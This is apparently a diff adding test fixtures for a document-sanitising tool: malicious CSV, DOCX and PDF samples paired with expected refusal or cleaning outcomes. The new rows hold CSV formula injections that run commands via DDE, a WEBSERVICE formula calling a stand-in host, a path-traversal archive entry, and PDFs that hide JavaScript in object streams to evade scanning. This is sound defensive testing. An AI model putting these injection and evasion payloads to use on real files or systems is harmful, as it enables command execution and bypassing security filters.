@@ -3,6 +3,7 @@
 import io
 import struct
 import zipfile
+from functools import partial
 
 from openpyxl.workbook.defined_name import DefinedName
 from pypdf.generic import BooleanObject, NameObject, TextStringObject
@@ -70,8 +71,29 @@ def sending() -> bytes:
     return opening("SubmitForm", F=TextStringObject("http://thu.example/"), Next=next_act)
 
 
-def script_in_packed_object() -> bytes:
-    return making.in_object_stream("<</S/Java#53cript/JS(app.alert\\(1\\))>>")
+def script_in_packed_object(*hidden: object) -> bytes:
+    return making.in_object_stream("<</S/Java#53cript/JS(app.alert\\(1\\))>>", *hidden)
+
+
+def hidden_object_streams() -> list[Row]:
+    """PDFs with a script in an object stream that is hard to tell from any other stream."""
+    usual, far = making.OBJECT_STREAM, b"/Pad(" + b"A" * 3000 + b")"
+    late = b"/Filter/FlateDecode%b/Type/ObjStm/N 1/First 4"
+    predicted = b"/DecodeParms<</Predictor 12/Columns 3>>/Pad( obj)" + usual
+    hidden = {
+        "far": (usual + far,),
+        "behind-words": (usual + b"/Pad( obj)",),
+        "behind-a-comment": (usual + b"% obj\n",),
+        "packing-far": (late % far,),
+        "packing-behind-words": (late % b"/Pad( obj)",),
+        "return": (usual, b"stream\r"),
+        "blank": (usual, b"stream \n"),
+        "predicted": (predicted, b"stream\n", 3),
+    }
+    return [
+        Row(f"object-stream-{name}.pdf", partial(script_in_packed_object, *how), CLEANED)
+        for name, how in hidden.items()
+    ]
 
 
 def template(target: str) -> bytes:
@@ -201,6 +223,14 @@ ROWS = [
         Refusal.DDE,
     ),
     Row("dde.csv", lambda: "Xã,Số\n\"=cmd|'/c calc'!A1\",1\n".encode(), Refusal.DDE),
+    Row("dde-in-a-function.csv", lambda: b"\"=IF(1,cmd|'/c calc'!A1,2)\",1\n", Refusal.DDE),
+    Row("dde-with-quotes.csv", lambda: b"+cmd|'/c ''calc'''!A1,1\n", Refusal.DDE),
+    Row(
+        "web-service.csv", lambda: b'a,"=1+WEBSERVICE(""http://thu.example"")"\n', Refusal.EXTERNAL
+    ),
+    Row(
+        "way-out.docx", lambda: with_entry(outline_docx(), "../../thoat.txt", b"x"), Refusal.BROKEN
+    ),
     Row(
         "web-service.xlsx",
         lambda: saved(making.workbook('=WEBSERVICE("http://thu.example")')),
@@ -240,6 +270,7 @@ ROWS = [
         CLEANED,
     ),
     Row("script-in-packed-object.pdf", script_in_packed_object, CLEANED),
+    *hidden_object_streams(),
     Row(
         "script-under-lock.pdf",
         lambda: making.locked(opening("JavaScript", JS=TextStringObject("app.alert(1)"))),
